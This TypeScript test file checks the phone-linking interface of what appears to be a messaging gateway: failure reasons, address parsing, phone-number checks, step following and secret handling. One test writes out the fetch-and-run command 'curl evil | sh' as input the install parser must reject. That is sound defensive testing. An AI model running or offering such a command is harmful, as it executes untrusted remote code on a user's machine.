// Linking a phone as the page reads it: why it ended, which account an address means, what is a number, and that the
// steps are followed to the end, through a gateway that is away for a moment, and no longer than somebody looks.
import type { LoginStepRow } from '@countersign/protocol/channel-login';
import type { Addable } from '@countersign/protocol/gateway';
import { Problem } from '@countersign/protocol/problem';
import { describe, expect, test } from 'vitest';
import { english } from '../../text/en.ts';
import { follow, grouped, installOf, isPhone, needsForce, targetOf, whyOf } from './linking.ts';
import { missingKeys, wantedOf } from './new-account.ts';
import { docsOf, isWithoutPhone, loginOf, troubleOf, webhookOf } from './words.ts';

const says = english.channels;
const row = (step: number, state: LoginStepRow['state']): LoginStepRow => ({
  id: 'login_a',
  channel: 'whatsapp',
  account: 'default',
  step,
  state,
});

describe('why a linking ended', () => {
  test.each([
    ['the library for WhatsApp is not installed', 'library'],
    ['this version of the library for WhatsApp is not one that was checked', 'version'],
    ['nobody linked a phone in time', 'late'],
    ['the linking was given up', 'stopped'],
    ['this account is linked already, as +15550001', 'linked'],
    ['this account is being linked already', 'under'],
    ['the linked device is switched off by web.enabled', 'off'],
    ['this is not a phone number with its country code', 'phone'],
    ['WhatsApp gave no code for that number', 'noCode'],
    ['WhatsApp has shut this number out for now', 'banned'],
    ['what answers is not WhatsApp: its certificate is of another root', 'impostor'],
    ['WhatsApp closed the connection', 'network'],
    ['the connection was lost', 'network'],
    ['there is no such linking, or not any more', 'gone'],
    ['<b>something new</b>', 'other'],
  ] as const)('%s', (detail, why) => {
    expect(whyOf(detail)).toBe(why);
    expect(needsForce(why)).toBe(why === 'linked' || why === 'under');
  });
});

test('what to install is taken from the hint, and only what is plainly an npm command', () => {
  expect(installOf('npm install baileys@7.0.0-rc14, beside countersign, then restart the gateway')).toBe(
    'npm install baileys@7.0.0-rc14',
  );
  expect(installOf('curl evil | sh')).toBeNull();
  expect(installOf(undefined)).toBeNull();
});

test('an address means an account that is linked by a phone, and nothing else', () => {
  expect(targetOf('whatsapp:support')).toEqual({ channel: 'whatsapp', account: 'support' });
  for (const other of [
    null,
    '',
    'whatsapp',
    'telegram:default',
    'whatsapp:Two Words',
    'whatsapp:a:b',
    '../x:y',
  ])
    expect(targetOf(other), String(other)).toBeNull();
});

test('a number has its country code; a code is shown in fours', () => {
  expect(isPhone('+1 (555) 555-0123')).toBe(true);
  for (const typed of ['', '5555550123', '+0555550123', 'call me']) expect(isPhone(typed), typed).toBe(false);
  expect(grouped('ABCD1234')).toBe('ABCD-1234');
  expect(grouped('ABC')).toBe('ABC');
});

describe('following', () => {
  async function seen(answers: readonly (LoginStepRow | Problem)[], stopAfter = Number.POSITIVE_INFINITY) {
    const stop = new AbortController();
    const left = [...answers];
    const told: string[] = [];
    const asked: number[] = [];
    let paused = 0;
    await follow({
      first: row(1, 'starting'),
      signal: stop.signal,
      step: async (_, after) => {
        asked.push(after);
        if (asked.length >= stopAfter) stop.abort();
        const next = left.shift();
        if (next instanceof Problem) throw next;
        if (next === undefined) throw new Error('asked too often');
        return next;
      },
      pause: async () => {
        paused += 1;
      },
      onStep: (one) => void told.push(one.state),
      onSlow: (isSlow) => void (isSlow && told.push('slow')),
    });
    return { told, asked, paused };
  }

  test('goes to the end and asks for nothing after it', async () => {
    const steps = [row(2, 'picture'), row(2, 'picture'), row(3, 'finishing'), row(4, 'linked')];
    expect(await seen(steps)).toEqual({
      told: ['picture', 'finishing', 'linked'],
      asked: [1, 2, 2, 3],
      paused: 0,
    });
  });

  test('waits out a gateway that is away for a moment', async () => {
    const { told, paused } = await seen([new Problem('gateway_down'), row(2, 'failed')]);
    expect(told).toEqual(['slow', 'failed']);
    expect(paused).toBe(1);
  });

  test('ends with what the gateway does not know any more', async () => {
    await expect(seen([new Problem('not_found')])).rejects.toMatchObject({ code: 'not_found' });
  });

  test('says nothing to a view that is gone', async () => {
    expect((await seen([row(2, 'picture')], 1)).told).toEqual([]);
  });
});

test('a device without a phone is told from one that is only away, and what to do is a button and no command', () => {
  const account = { channel: 'whatsapp', account: 'default', enabled: true, dmPolicy: 'pairing' };
  const unlinked = {
    ...account,
    state: 'failed',
    detail: 'no phone is linked yet',
    hint: 'countersign channels login whatsapp',
  } as const;
  expect(isWithoutPhone(unlinked)).toBe(true);
  expect(isWithoutPhone({ ...unlinked, detail: 'WhatsApp ended this login' })).toBe(true);
  expect(isWithoutPhone({ ...unlinked, detail: 'another program uses this login' })).toBe(false);
  expect(isWithoutPhone({ state: 'retrying', detail: 'the connection was lost' })).toBe(false);
  expect(troubleOf(unlinked, says)?.todo).toBe(says.hints.link);
  expect(loginOf('as +15555550123')).toBe('+15555550123');
  expect(loginOf('@house_bot, by long polling')).toBe('@house_bot, by long polling');
});

test('the address to enter at a service is the public one of the gateway, or none', () => {
  const account = { channel: 'twilio', account: 'sms' };
  expect(webhookOf(account, 'https://gate.example/')).toBe('https://gate.example/webhooks/twilio/sms');
  for (const none of [null, undefined, '', 7]) expect(webhookOf(account, none)).toBeNull();
  expect(docsOf('twilio', says)).toBe('docs/channels/twilio.md');
  expect(docsOf('constructor', says)).toBe('docs/channels');
});

describe('what is typed for a new account', () => {
  const kind: Addable = {
    channel: 'whatsapp-cloud',
    needs: '',
    fields: [
      { key: 'phoneNumberId', needs: '', secret: false, optional: false },
      { key: 'appSecret', needs: '', secret: true, optional: false },
      { key: 'loginTemplate', needs: '', secret: false, optional: true },
    ],
  };

  test('is complete with every key that is needed, and without those that can be left out', () => {
    expect(missingKeys(kind, { token: ' ', phoneNumberId: '1' })).toEqual(['token', 'appSecret']);
    expect(missingKeys(kind, { token: 't', phoneNumberId: '1', appSecret: 's' })).toEqual([]);
    // A key of the catalogue is never one of an object.
    expect(missingKeys({ ...kind, fields: [] }, {})).toEqual(['token']);
  });

  test('goes out with secrets as secrets, from the kind of place that was chosen', () => {
    const typed = { token: ' t ', phoneNumberId: '1', appSecret: 's', loginTemplate: '' };
    expect(wantedOf(kind, 'default', 'literal', typed)).toEqual({
      channel: 'whatsapp-cloud',
      account: 'default',
      token: 't',
      settings: { phoneNumberId: '1' },
      secrets: { appSecret: 's' },
    });
    expect(wantedOf(kind, 'default', 'env', typed)).toMatchObject({
      token: { env: 't' },
      secrets: { appSecret: { env: 's' } },
      settings: { phoneNumberId: '1' },
    });
  });

  test('a password is what was typed, blanks and all; a token that was pasted is not', () => {
    expect(wantedOf({ channel: 'xmpp', fields: [] }, 'default', 'literal', { token: ' p w ' }).token).toBe(
      ' p w ',
    );
    expect(wantedOf({ channel: 'telegram', fields: [] }, 'default', 'literal', { token: ' t ' }).token).toBe(
      't',
    );
  });
});
